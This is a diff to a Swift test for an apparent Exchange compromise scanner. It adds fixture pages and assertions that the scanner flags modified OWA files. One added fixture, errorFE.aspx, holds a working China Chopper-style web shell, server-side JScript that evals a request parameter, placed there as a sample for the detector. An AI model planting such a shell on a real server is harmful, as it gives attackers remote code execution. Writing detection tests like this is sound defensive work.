@@ -19,6 +19,8 @@ import TestSupport
         let root = dir.appendingPathComponent("EXCH01")
         // Nothing any content rule matches: only the baselines can tell.
         try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/logon.aspx", "<html><head><title>Outlook</title></head><body>Sign in</body></html>\n<!-- added -->\n")
+        try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/errorFE.aspx",
+                "<html><body>Error</body></html>\n<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"q\"],\"unsafe\");}</script>\n")
         try put(root, "\(v15)/FrontEnd/HttpProxy/owa/auth/healthcheck2.aspx", "<html><body>OK</body></html>\n")
         let fine = "<html><body>Fine</body></html>\n"
         try put(root, "\(v15)/ClientAccess/ecp/auth/fine.aspx", fine)
@@ -41,6 +43,10 @@ import TestSupport
         #expect(modified.rule.title.hasPrefix("One of Exchange's pages or binaries"))
         #expect(modified.role == .compromised)
         #expect(modified.extracted["summary"]?.contains("build 15.1.2176.2") == true)
+        #expect(modified.extracted["summary"]?.contains("no rule matched its content") == true, "\(modified.extracted)")
+        // A real page with a shell appended: the mismatch's content reason is the family's match.
+        let appended = try #require(byFile["errorFE.aspx"]?.first { $0.rule.title.hasPrefix("One of Exchange's pages") })
+        #expect(appended.extracted["summary"]?.contains("its content is what EXHUNT_ASPX_ChinaChopper_UnsafeEval") == true, "\(appended.extracted)")
         #expect(byFile["logon.aspx"]?.count == 1, "only the baseline tells: \(byFile["logon.aspx"]?.map(\.rule.title) ?? [])")
         let unknown = try #require(byFile["healthcheck2.aspx"]?.first { $0.rule.title.hasPrefix("Page in Exchange's web folders") })
         #expect(unknown.role != .compromised)
